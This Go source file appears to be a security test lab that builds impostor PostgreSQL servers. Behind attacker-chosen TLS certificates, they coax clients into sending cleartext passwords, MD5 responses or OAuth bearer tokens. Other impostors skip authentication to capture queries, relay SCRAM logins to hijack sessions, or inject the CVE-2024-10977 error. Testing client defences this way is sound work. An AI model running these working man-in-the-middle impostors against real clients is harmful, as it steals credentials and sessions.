package lab

import (
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"sync/atomic"
)

// AuthTrap is what an impostor asks of a client once TLS is up: the ways
// a man in the middle with a certificate of its own (which sslmode=require
// accepts) harvests a password or a session.
type AuthTrap int

// The traps.
const (
	// AskCleartext asks for the password in cleartext
	// (AuthenticationCleartextPassword) and records the answer.
	AskCleartext AuthTrap = iota
	// AskMD5 asks for an MD5 response to a salt of its choosing, and
	// records the answer (crackable offline, replayable with that salt).
	AskMD5
	// SkipAuth answers AuthenticationOk at once, with no exchange, and
	// records what the client sends next (its queries).
	SkipAuth
	// RelaySCRAM relays the login to the real server in plaintext, where
	// the server offers SCRAM without channel binding, and counts the
	// sessions the server then authenticates: a man in the middle that
	// needs no password at all.
	RelaySCRAM
	// AskOAuth offers only OAUTHBEARER (PostgreSQL 18's OAuth) and
	// records the client's SASLInitialResponse: the bearer token.
	AskOAuth
)

// NewAuthImpostor completes TLS with cert, reads the startup message and
// plays trap (upstream is the real server, for RelaySCRAM). Received holds
// what clients answered; Sessions counts the sessions it obtained.
func NewAuthImpostor(trap AuthTrap, upstream string, cert tls.Certificate) (*Proxy, error) {
	cfg := &tls.Config{Certificates: []tls.Certificate{cert}, MinVersion: tls.VersionTLS12}
	return newSelfProxyOn("127.0.0.1:0", func(p *Proxy, c net.Conn) {
		tc, ok := startTLS(c, cfg)
		if !ok {
			return
		}
		startup, err := readStartup(tc)
		if err != nil {
			return
		}
		switch trap {
		case AskCleartext, AskMD5, AskOAuth:
			ask := []byte{'R', 0, 0, 0, 8, 0, 0, 0, 3}
			switch trap {
			case AskMD5:
				ask = []byte{'R', 0, 0, 0, 12, 0, 0, 0, 5, 0x5a, 0x71, 0x37, 0x21}
			case AskOAuth:
				mech := "OAUTHBEARER\x00\x00"
				ask = binary.BigEndian.AppendUint32([]byte{'R'}, uint32(8+len(mech)))
				ask = append(binary.BigEndian.AppendUint32(ask, 10), mech...)
			}
			if _, err := tc.Write(ask); err != nil {
				return
			}
			msg, err := readMessage(tc)
			if err != nil {
				return
			}
			p.record(msg)
			tc.Write(errorResponse("28P01", "fake server"))
		case SkipAuth:
			// AuthenticationOk, then ReadyForQuery (idle).
			if _, err := tc.Write([]byte{'R', 0, 0, 0, 8, 0, 0, 0, 0, 'Z', 0, 0, 0, 5, 'I'}); err != nil {
				return
			}
			msg, err := readMessage(tc)
			if err != nil {
				return
			}
			if msg[0] != 'X' { // a Terminate is a client leaving, not talking
				p.sessions.Add(1)
			}
			p.record(msg)
		case RelaySCRAM:
			up, err := net.Dial("tcp", upstream)
			if err != nil {
				return
			}
			if _, err := up.Write(startup); err != nil {
				up.Close()
				return
			}
			relay(tc, &okWatcher{Conn: up, sessions: &p.sessions})
		}
	})
}

// Sessions is how many authenticated sessions an impostor obtained: a
// client that talked to it after AuthenticationOk (SkipAuth), or a login
// the real server accepted through it (RelaySCRAM).
func (p *Proxy) Sessions() int64 { return p.sessions.Load() }

// readStartup reads a StartupMessage (no type byte).
func readStartup(r io.Reader) ([]byte, error) {
	head := make([]byte, 4)
	if _, err := io.ReadFull(r, head); err != nil {
		return nil, err
	}
	n := int(binary.BigEndian.Uint32(head))
	if n < 8 || n > 10000 {
		return nil, io.ErrUnexpectedEOF
	}
	body := make([]byte, n-4)
	if _, err := io.ReadFull(r, body); err != nil {
		return nil, err
	}
	return append(head, body...), nil
}

// okWatcher counts the AuthenticationOk messages a server sends through
// it. It parses whole messages: a relay reads in arbitrary pieces.
type okWatcher struct {
	net.Conn
	sessions *atomic.Int64
	buf      []byte
	seen     bool
}

func (w *okWatcher) Read(b []byte) (int, error) {
	n, err := w.Conn.Read(b)
	if !w.seen {
		w.buf = append(w.buf, b[:n]...)
		for len(w.buf) >= 5 {
			l := int(binary.BigEndian.Uint32(w.buf[1:5]))
			if l < 4 || len(w.buf) < 1+l {
				break
			}
			if w.buf[0] == 'R' && l >= 8 && binary.BigEndian.Uint32(w.buf[5:9]) == 0 {
				w.sessions.Add(1)
				w.seen = true
				break
			}
			w.buf = w.buf[1+l:]
		}
	}
	return n, err
}

// NewNegotiationErrorProxy answers the SSLRequest with an ErrorResponse
// carrying message, as CVE-2024-10977's man in the middle does: a client
// that shows it lets an unauthenticated peer write to the user. It
// records whatever the client sends next.
func NewNegotiationErrorProxy(message string) (*Proxy, error) {
	return newSelfProxyOn("127.0.0.1:0", func(p *Proxy, c net.Conn) {
		if !readSSLRequest(c) {
			return
		}
		if _, err := c.Write(errorResponse("28000", message)); err != nil {
			return
		}
		b := make([]byte, 4096)
		if n, _ := c.Read(b); n > 0 {
			p.record(b[:n])
		}
	})
}

// NewReplyImpostor completes TLS with cert, reads the startup message,
// writes reply (any bytes: a forged authentication exchange, a header
// announcing a huge message) and records every message the client sends
// after it, until the client closes.
func NewReplyImpostor(cert tls.Certificate, reply []byte) (*Proxy, error) {
	cfg := &tls.Config{Certificates: []tls.Certificate{cert}, MinVersion: tls.VersionTLS12}
	return newSelfProxyOn("127.0.0.1:0", func(p *Proxy, c net.Conn) {
		tc, ok := startTLS(c, cfg)
		if !ok {
			return
		}
		if _, err := readStartup(tc); err != nil {
			return
		}
		if _, err := tc.Write(reply); err != nil {
			return
		}
		for {
			msg, err := readMessage(tc)
			if err != nil {
				return
			}
			p.record(msg)
		}
	})
}

// NewDirectTLSProxy speaks sslnegotiation=direct: TLS from the first byte
// (ALPN "postgresql"), with cert, relaying the session to upstream in
// plaintext, as a TLS-terminating pooler would.
func NewDirectTLSProxy(upstream string, cert tls.Certificate) (*Proxy, error) {
	cfg := &tls.Config{Certificates: []tls.Certificate{cert}, NextProtos: []string{"postgresql"}, MinVersion: tls.VersionTLS12}
	return newProxy(func(c net.Conn) {
		tc := tls.Server(c, cfg)
		if err := tc.Handshake(); err != nil {
			return
		}
		up, err := net.Dial("tcp", upstream)
		if err != nil {
			return
		}
		relay(tc, up)
	})
}
